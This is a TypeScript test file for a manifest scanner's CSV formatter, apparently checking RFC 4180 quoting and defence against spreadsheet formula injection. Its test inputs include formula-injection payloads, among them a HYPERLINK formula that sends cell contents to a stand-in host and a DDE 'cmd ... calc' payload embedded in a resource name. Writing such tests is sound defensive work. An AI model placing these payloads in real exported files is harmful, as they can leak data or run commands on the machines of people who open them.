import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { examplesScan } from './__fixtures__/examples.js';
import { DEPLOYMENT_YAML, exceptApiAndAgent, MULTI_DOC_YAML, scanSources } from './__fixtures__/scans.js';
import { CSV_COLUMNS, csvField, csvFormatter } from './csv.js';

/** An RFC 4180 reader, independent of the writer: fields, quotes, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 2);
      else if (c === '"') (quoted = false), i++;
      else (field += c), i++;
    } else if (c === '"' && field === '') (quoted = true), i++;
    else if (c === ',') row.push(field), (field = ''), i++;
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), (i += 2);
    else if (c === '\n' || c === '\r') assert.fail(`bare line break at ${i}`);
    else (field += c), i++;
  }
  assert.equal(field + row.join(''), '', 'the last record ends with CRLF');
  return rows;
}

describe('csvFormatter', () => {
  it('writes a header and one CRLF record per failing or excepted finding', async () => {
    const result = await examplesScan();
    const text = csvFormatter.render(result, { color: false });
    const rows = parseCsv(text);
    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
    const reported = result.findings.filter((f) => f.status === 'fail' || f.status === 'excepted');
    assert.equal(rows.length - 1, reported.length);
    for (const r of rows) assert.equal(r.length, CSV_COLUMNS.length);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    reported.forEach((f, i) => {
      const r = rows[i + 1]!;
      assert.equal(r[col('control')], f.controlId);
      assert.equal(r[col('fingerprint')], f.fingerprint);
      assert.equal(r[col('line')], f.location ? String(f.location.line) : '');
      assert.equal(r[col('status')], f.status);
    });
    const exc = rows.find((r) => r[col('status')] === 'excepted')!;
    assert.ok(exc[col('exception')]!.length > 0);
    assert.equal([...csvFormatter.chunks!(result, { color: false })].join(''), text);
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField('cr\rlf'), '"cr\rlf"');
    assert.equal(csvField(undefined), '');
    assert.equal(csvField(12), '12');
  });

  it('neutralises cells that a spreadsheet would run as a formula', () => {
    for (const evil of ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=1']) {
      const cell = csvField(evil);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      assert.equal(unquoted, `'${evil}`, JSON.stringify(evil));
    }
    assert.equal(csvField(-5), '-5', 'numbers we write are not text from the manifest');

    // End to end: a resource named like a formula, and a message with a comma and quotes.
    const result = scanSources([{ file: 'evil.yaml', text: DEPLOYMENT_YAML.text.replace('name: web', 'name: "=cmd|\' /C calc\'!A0"') }, MULTI_DOC_YAML], { exceptionFor: exceptApiAndAgent });
    result.findings[0]!.message = 'Container "debug", privileged';
    const rows = parseCsv(csvFormatter.render(result, { color: false }));
    const name = rows[1]![CSV_COLUMNS.indexOf('name')]!;
    assert.equal(name, "'=cmd|' /C calc'!A0");
    assert.equal(rows[1]![CSV_COLUMNS.indexOf('message')], 'Container "debug", privileged');
  });
});
